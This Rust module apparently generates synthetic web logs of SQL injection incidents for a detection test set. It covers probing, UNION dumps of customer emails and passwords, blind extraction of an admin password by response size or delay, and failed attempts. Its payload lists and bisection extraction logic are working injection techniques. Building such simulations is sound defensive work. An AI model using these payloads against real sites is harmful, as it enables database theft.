//! SQL injection: by UNION, blind by size, blind by time, and without effect.

use super::{Story, TOOLS, World, incident};
use crate::incident::Incident;
use crate::request::Request;
use crate::rng::Rng;
use crate::time::{HOUR, SECOND};

const SQLMAP: [&str; 4] = [
    "sqlmap/1.9.2#stable (https://sqlmap.org)",
    super::BROWSERS[0],
    super::BROWSERS[1],
    "python-requests/2.32.3",
];

/// Percent-encodes what a program's library would.
fn encoded(text: &str) -> String {
    let mut out = String::new();
    for byte in text.bytes() {
        match byte {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => out.push(byte as char),
            _ => out.push_str(&format!("%{byte:02X}")),
        }
    }
    out
}

/// What an attacker types before anything works.
fn probes(n: usize, rng: &mut Rng) -> Vec<String> {
    let forms = [
        "'",
        "\"",
        "')",
        "' AND '1'='1",
        "' AND '1'='2",
        " AND 1=1",
        " AND 1=2",
        "' OR 1=1-- -",
        "\") OR (\"a\"=\"a",
        "' ORDER BY 10-- -",
        "' AND SLEEP(5)-- -",
        ";WAITFOR DELAY '0:0:5'--",
        "' UNION SELECT NULL-- -",
        "' UNION SELECT NULL,NULL,NULL-- -",
        " AND EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))",
        "' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(0x716b,FLOOR(RAND(0)*2))x FROM users GROUP BY x)a)-- -",
    ];
    (0..n).map(|_| format!("{}{}", 1 + rng.below(40), rng.pick(&forms))).collect()
}

/// A working UNION after tries, then rows: many in one answer, or one by one.
pub(super) fn union_dump(world: &World, rng: &mut Rng) -> Incident {
    let (at_us, mut out) = (world.moment(12, rng), Vec::new());
    let actor = world.attacker(&SQLMAP, at_us, rng, &mut out);
    let page = *rng.pick(&["/product.php", "/category.php"]);
    // A broken query leaves the frame of the page; some sites answer 500 instead.
    let (bad_status, bad_bytes) = if rng.chance(0.3) { (500, 612) } else { (200, rng.between(2_600, 5_200)) };
    let mut story = Story::new(world, &actor, at_us);
    for payload in probes(rng.between(8, 80) as usize, rng) {
        story.wait(SECOND, 12 * SECOND, rng);
        story.get(
            &format!("{page}?id={}", encoded(&payload)),
            bad_status,
            bad_bytes + rng.below(world.noise + 1),
        );
    }
    let columns = rng.between(3, 9) as usize;
    let union = |what: &str, tail: &str| {
        let mut cells = vec!["NULL".to_owned(); columns];
        cells[1] = what.to_owned();
        encoded(&format!("-1' UNION ALL SELECT {}{tail}-- -", cells.join(",")))
    };
    let frame = rng.between(2_600, 5_200);
    if rng.chance(0.5) {
        for (table, bytes) in [("information_schema.tables", 9_000), ("information_schema.columns", 60_000)] {
            story.wait(4 * SECOND, 60 * SECOND, rng);
            let target =
                format!("{page}?id={}", union("group_concat(table_name)", &format!(" FROM {table}")));
            story.get(&target, 200, frame + rng.jitter(bytes, 0.4));
        }
        for part in 0..rng.between(2, 12) {
            story.wait(4 * SECOND, 40 * SECOND, rng);
            let rows = format!(" FROM (SELECT * FROM customers LIMIT {},1000)x", part * 1_000);
            let target = format!("{page}?id={}", union("group_concat(email,0x3a,password)", &rows));
            story.get(&target, 200, frame + rng.jitter(80_000, 0.2));
        }
    } else {
        for row in 0..rng.between(40, 300) {
            story.wait(SECOND / 5, SECOND, rng);
            let target = format!(
                "{page}?id={}",
                union("CONCAT(0x7162,email,0x3a,password,0x7170)", &format!(" FROM customers LIMIT {row},1"))
            );
            story.get(&target, 200, frame + rng.between(14, 38) + 60);
        }
    }
    out.append(&mut story.out);
    incident("I01", "sql-union", &["response-size-jump"], "probable", out)
}

/// A secret, one question a request: is its character at this place greater than so much?
fn ladder(secret: &[u8], rng: &mut Rng) -> Vec<(usize, u32, bool)> {
    let is_linear = rng.chance(0.2);
    let mut asked = Vec::new();
    for (place, &byte) in secret.iter().enumerate() {
        let byte = u32::from(byte);
        if is_linear {
            asked.extend((byte.saturating_sub(12)..=byte).map(|n| (place + 1, n, byte > n)));
            continue;
        }
        let (mut low, mut high) = (32, 128);
        while high - low > 1 {
            let middle = u32::midpoint(low, high);
            asked.push((place + 1, middle - 1, byte > middle - 1));
            if byte > middle - 1 { low = middle } else { high = middle }
        }
    }
    asked
}

fn secret(rng: &mut Rng) -> Vec<u8> {
    let text = format!("admin:${}${:x}", rng.pick(&["2y$10", "1", "6"]), rng.bits());
    text.bytes().take(rng.between(8, 24) as usize).collect()
}

fn question((place, bound, _): (usize, u32, bool), form: u64) -> String {
    let select = "(SELECT IFNULL(CAST(password AS NCHAR),0x20) FROM shop.admins LIMIT 0,1)";
    match form {
        0 => format!("3 AND ORD(MID({select},{place},1))>{bound}"),
        1 => format!("3' AND ASCII(SUBSTRING({select},{place},1))>{bound}-- -"),
        _ => format!("3 AND ASCII(SUBSTR({select},{place},1))>{bound} AND 1=1"),
    }
}

/// Blind by size: the page with its goods, or without them.
pub(super) fn blind(world: &World, rng: &mut Rng) -> Incident {
    let (at_us, mut out) = (world.moment(12, rng), Vec::new());
    let actor = world.attacker(&SQLMAP, at_us, rng, &mut out);
    let mut story = Story::new(world, &actor, at_us);
    let good = world.site.page_bytes("/category.php?id=3", at_us, &mut Rng::new(0, "still")) / 10 * 10;
    let bad = good - rng.between(40, good / 2);
    let form = rng.below(3);
    for asked in ladder(&secret(rng), rng) {
        story.wait(SECOND / 8, SECOND, rng);
        let bytes = if asked.2 { good } else { bad };
        let target = format!("/category.php?id={}", encoded(&question(asked, form)));
        story.get(&target, 200, bytes + rng.below(world.noise + 1));
    }
    out.append(&mut story.out);
    let level = if world.noise > 20 { "possible" } else { "probable" };
    incident("I02", "sql-blind", &["response-size-jump"], level, out)
}

/// Blind by time: every answer is the same, but yes takes the time that was asked for.
pub(super) fn blind_by_time(world: &World, rng: &mut Rng) -> Incident {
    let (at_us, mut out) = (world.moment(20, rng), Vec::new());
    let actor = world.attacker(&SQLMAP, at_us, rng, &mut out);
    let mut story = Story::new(world, &actor, at_us);
    let delay_s = *rng.pick(&[1, 2, 5]);
    let bytes = rng.between(6_000, 16_000);
    for asked in ladder(&secret(rng), rng) {
        let select = "(SELECT password FROM admins LIMIT 0,1)";
        let payload = format!(
            "3 AND (SELECT 1 FROM (SELECT(SLEEP({delay_s}-(IF(ORD(MID({select},{},1))>{},0,{delay_s})))))a)",
            asked.0, asked.1
        );
        story.wait(SECOND / 5, SECOND, rng);
        let took_us = rng.time(20_000, 140_000) + if asked.2 { delay_s * SECOND } else { 0 };
        let target = format!("/category.php?id={}", encoded(&payload));
        let size = bytes + rng.below(world.noise + 1);
        story.get(&target, 200, size).duration_us = took_us;
        story.at_us += took_us;
    }
    out.append(&mut story.out);
    let level = if world.logs_duration { "probable" } else { "no_sign" };
    incident("I03", "sql-blind-by-time", &["attack", "response-size-jump"], level, out)
}

/// How a page that cannot be injected answers.
fn unmoved(world: &World, page: &str, how: u64, target: &str, at_us: i64, rng: &mut Rng) -> (u16, u64) {
    let still = world.site.page_bytes(page, at_us, rng);
    match how {
        // The number at the start is all that counts.
        0 => (200, still),
        // What was asked for is printed, escaped.
        1 => (200, 5_940 + 2 * target.len() as u64 + rng.below(world.noise + 1)),
        // Nothing of that number is for sale.
        2 => (404, 4_120 + rng.below(world.noise + 1)),
        // The filter in front of it.
        3 => (403, 1_233),
        _ => (500, 842),
    }
}

/// A tool tries everything that it has.
pub(super) fn failed_tool(world: &World, rng: &mut Rng) -> Incident {
    let (at_us, mut out) = (world.moment(8, rng), Vec::new());
    let actor = world.attacker(&SQLMAP, at_us, rng, &mut out);
    let mut story = Story::new(world, &actor, at_us);
    let how = rng.below(5);
    for payload in probes(rng.between(60, 400) as usize, rng) {
        story.wait(SECOND / 6, 2 * SECOND, rng);
        let target = format!("/product.php?id={}", encoded(&payload));
        let id = payload.split(|c: char| !c.is_ascii_digit()).next().unwrap_or("1").to_owned();
        let page = format!("/product.php?id={id}");
        let (status_code, bytes) = unmoved(world, &page, how, &target, story.at_us, rng);
        story.get(&target, status_code, bytes);
    }
    out.append(&mut story.out);
    incident("I04", "sql-failed", &["attack"], "no_sign", out)
}

/// The questions of a blind injection to a page that does not care.
pub(super) fn failed_blind(world: &World, rng: &mut Rng) -> Incident {
    let (at_us, mut out) = (world.moment(8, rng), Vec::new());
    let actor = world.attacker(&TOOLS, at_us, rng, &mut out);
    let mut story = Story::new(world, &actor, at_us);
    let (how, form) = (rng.below(5), rng.below(3));
    // Nobody answers, so the ladder goes the same way at each place.
    for asked in ladder(&[b' '; 20], rng) {
        story.wait(SECOND / 6, SECOND, rng);
        let target = format!("/product.php?id={}", encoded(&question(asked, form)));
        let (status_code, bytes) = unmoved(world, "/product.php?id=3", how, &target, story.at_us, rng);
        story.get(&target, status_code, bytes);
    }
    out.append(&mut story.out);
    incident("I05", "sql-blind-failed", &["attack"], "no_sign", out)
}

/// Requests of a scanner for scripts, answered as any search is.
pub(super) fn reflected(world: &World, payloads: &[&str], story: &mut Story<'_>, n: u64, rng: &mut Rng) {
    let kept: u64 = rng.between(1, 3);
    let frame = 7_420 + rng.below(900);
    for _ in 0..n {
        story.wait(SECOND / 3, 3 * SECOND, rng);
        let payload = encoded(&format!("{}{}", rng.below(1_000), rng.pick(payloads)));
        let bytes = frame + kept * payload.len() as u64 + rng.below(world.noise + 1);
        story.get(&format!("/search.php?q={payload}"), 200, bytes);
    }
}

/// Takes what a story made.
pub(super) fn told(mut story: Story<'_>, mut before: Vec<Request>) -> Vec<Request> {
    before.append(&mut story.out);
    before.retain(|r| r.start_us >= crate::time::START - HOUR);
    before
}
